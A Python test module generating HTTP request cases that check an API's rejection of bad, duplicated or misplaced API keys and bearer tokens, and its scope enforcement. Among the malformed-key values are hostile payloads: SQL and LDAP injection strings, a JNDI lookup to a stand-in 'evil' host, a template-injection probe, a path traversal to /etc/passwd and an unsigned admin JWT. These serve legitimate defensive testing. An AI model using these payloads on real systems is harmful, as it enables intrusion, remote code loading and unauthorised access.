"""A1 to A4, S2: what is a credential, and what is none."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.hostile.rows.row import HOST, ONE, PIXEL, Row, get, head, post, sized

if TYPE_CHECKING:
    from collections.abc import Iterator

K = b"x-api-key: "
B = b"Authorization: "

MALFORMED = {
    "a word": b"secret",
    "the prefix alone": b"acme_",
    "no prefix": b"0123456789012345678901234567890123456789",
    "prefix in upper case": b"ACME_0123456789012345678901234567890123456789",
    "prefix of another API": b"{BEARER}",
    "one character less": b"acme_012345678901234567890123456789012345678",
    "one character more": b"{KEY}0",
    "checksum wrong": b"acme_0123456789012345678901234567890123456789",
    "129 bytes": b"a" * 129,
    "8 KB": b"a" * 8000,
    "space inside": b"{KEY} {KEY}",
    "comma inside": b"{KEY},{KEY}",
    "list of one": b"{KEY},",
    "tab inside": b"{KEY}\tx",
    "quoted": b'"{KEY}"',
    "percent encoded": b"%61{KEY}",
    "non-ASCII": b"{KEY}\xc3\xa9",
    "full-width": b"\xef\xbc\xa1{KEY}",
    "with a scheme": b"Bearer {KEY}",
    "with Basic": b"Basic {KEY}",
    "SQL": b"' OR 1=1 --",
    "LDAP": b"*)(uid=*))(|(uid=*",
    "JNDI": b"${jndi:ldap://evil/a}",
    "template": b"{{7*7}}",
    "path": b"../../etc/passwd",
    "JSON null": b"null",
    "true": b"true",
    "zero": b"0",
    "wildcard": b"*",
    "JWT of no algorithm": b"eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
}
AUTHORIZATIONS = {
    "no scheme": b"{BEARER}",
    "scheme alone": b"Bearer",
    "scheme and a space": b"Bearer ",
    "Basic": b"Basic {BEARER}",
    "Digest": b"Digest {BEARER}",
    "Token": b"Token {BEARER}",
    "two keys": b"Bearer {BEARER} {BEARER}",
    "a list": b"Bearer {BEARER}, Bearer {BEARER}",
    "a parameter": b"Bearer {BEARER}; a=b",
    "token=": b"Bearer token={BEARER}",
    "quoted": b'Bearer "{BEARER}"',
    "tab in place of the space": b"Bearer\t{BEARER}",
    "colon": b"Bearer: {BEARER}",
    "twice the scheme": b"Bearer Bearer {BEARER}",
    "a key of the other API": b"Bearer {KEY}",
}


def rows() -> Iterator[Row]:
    yield from _a1()
    yield from _a2()
    yield from _a3()
    yield from _a4()
    yield from _s2()


def _refused(name: str, *lines: bytes, target: bytes = b"/api/things") -> Row:
    return Row(name, get(*lines, target=target, identity=()), (401,), kept=True)


def _a1() -> Iterator[Row]:
    yield _refused("A1 no credential", PIXEL)
    yield _refused("A1 empty", K, PIXEL)
    yield _refused("A1 only spaces", K + b"   ", PIXEL)
    for name in ("UNKNOWN", "WRONG", "REVOKED", "EXPIRED", "DISABLED"):
        yield _refused(f"A1 {name.lower()}", K + b"{%b}" % name.encode(), PIXEL)
    yield _refused("A1 no bearer", target=b"/v1/items")


def _a2() -> Iterator[Row]:
    yield _refused("A2 two keys", K + b"{KEY}", K + b"{OTHER}", PIXEL)
    yield _refused("A2 the same key twice", K + b"{KEY}", K + b"{KEY}", PIXEL)
    yield _refused("A2 a right key after a wrong one", K + b"{WRONG}", K + b"{KEY}", PIXEL)
    yield _refused("A2 a right key before a wrong one", K + b"{KEY}", K + b"{WRONG}", PIXEL)
    yield _refused("A2 an empty one before", K, K + b"{KEY}", PIXEL)
    yield _refused("A2 in odd case", b"X-API-KEY: {KEY}", b"X-Api-Key: {KEY}", PIXEL)
    yield _refused("A2 another by bearer", K + b"{KEY}", B + b"Bearer {OTHER}", PIXEL)
    yield _refused("A2 another by bearer, first", B + b"Bearer {OTHER}", K + b"{KEY}", PIXEL)
    yield _refused("A2 only by bearer, where x-api-key is asked for", B + b"Bearer {KEY}", PIXEL)
    bearer = B + b"Bearer {BEARER}"
    yield _refused("A2 two bearers", bearer, bearer, target=b"/v1/items")
    yield _refused("A2 two bearers, one wrong", bearer, B + b"Bearer x", target=b"/v1/items")
    yield _refused("A2 bearer and another x-api-key", bearer, K + b"{KEY}", target=b"/v1/items")
    yield _refused("A2 only x-api-key, where bearer is asked for", K + b"{BEARER}", target=b"/v1/items")


def _a3() -> Iterator[Row]:
    for name, value in MALFORMED.items():
        number = (
            "A4" if name in ("129 bytes", "8 KB", "space inside", "tab inside", "non-ASCII", "full-width") else "A3"
        )
        yield _refused(f"{number} {name}", K + value, PIXEL)
    for name, value in AUTHORIZATIONS.items():
        yield _refused(f"A3 bearer: {name}", B + value, target=b"/v1/items")


def _a4() -> Iterator[Row]:
    for place in (b"x-api-key", b"api_key", b"key", b"access_token", b"apikey"):
        target = b"/api/things?" + place + b"={KEY}"
        yield _refused(f"A4 in the query as {place.decode()}", PIXEL, target=target)
    yield _refused("A4 in the query, by bearer's name", target=b"/v1/items?access_token={BEARER}")
    yield _refused("A4 in a cookie", b"Cookie: x-api-key={KEY}", PIXEL)
    yield _refused("A4 as Basic", B + b"Basic YWNtZTp7S0VZfQ==", PIXEL)
    yield _refused("A4 in the path", PIXEL, target=b"/api/things/{KEY}")
    yield _refused("A4 in Proxy-Authorization", b"Proxy-Authorization: Bearer {KEY}", PIXEL)
    yield _refused("A4 in an underscored name", b"x_api_key: {KEY}", PIXEL)
    for name in (
        b"x-api-key2",
        b"api-key",
        b"x-key",
        b"apikey",
        b"x-auth-token",
        b"x-access-token",
        b"x-original-api-key",
    ):
        yield _refused(f"A4 as {name.decode()}", name + b": {KEY}", PIXEL)
    line, length = b"POST /api/things HTTP/1.1", len(b"x-api-key=acme_") + 40
    raw = head(line, HOST, PIXEL, b"Content-Length: %d" % length) + b"x-api-key={KEY}"
    yield Row("A4 in the body", raw, (401,), kept=True)
    yield Row("A4 as a referer", get(b"Referer: https://{KEY}@api.test/", PIXEL, identity=()), (401,), kept=True)


def _s2() -> Iterator[Row]:
    reader = (K + b"{READER}", PIXEL)
    bare = (K + b"{BARE}", PIXEL)
    denied = {
        "read with no scope": get(identity=bare),
        "write with read": get(identity=reader).replace(b"GET", b"POST", 1),
        "replace with read": get(identity=reader).replace(b"GET", b"PUT", 1),
        "change with read": get(identity=reader, target=b"/api/things/mine").replace(b"GET", b"PATCH", 1),
        "remove with read": get(identity=reader, target=b"/api/things/mine").replace(b"GET", b"DELETE", 1),
        "one with no scope": get(identity=bare, target=b"/api/things/mine"),
        "a foreign one with no scope": get(identity=bare, target=b"/api/things/foreign"),
        "a missing one with no scope": get(identity=bare, target=b"/api/things/missing"),
        "with a scope in a header": get(b"x-scopes: things:write", identity=bare),
        "with a scope in the query": get(identity=bare, target=b"/api/things?scope=things:write"),
    }
    for name, raw in denied.items():
        yield Row(f"S2 {name}", raw, (403,), kept=True)
    yield Row("K1 a key as the method", get(method=b"{KEY}"), (405,), kept=True)
    yield Row("K1 a key as the request's id", get(b"x-request-id: {KEY}"), (200,), True, ONE)
    yield Row("K1 a dead key as the request's id", get(b"x-request-id: a-{REVOKED}", identity=()), (401,), kept=True)
    yield Row("S2 what needs no scope", get(identity=bare, target=b"/api/ping"), (200,), True, ONE)
    yield Row("S1 a write scope reads too", get(), (200,), True, ONE)
    yield Row("S2 a write scope writes", sized(b"ok"), (200,), True, ONE)
    raw = post(b"Content-Length: 0", target=b"/v1/items")
    yield Row("S2 a key of one API at the other", raw, (401,), kept=True)
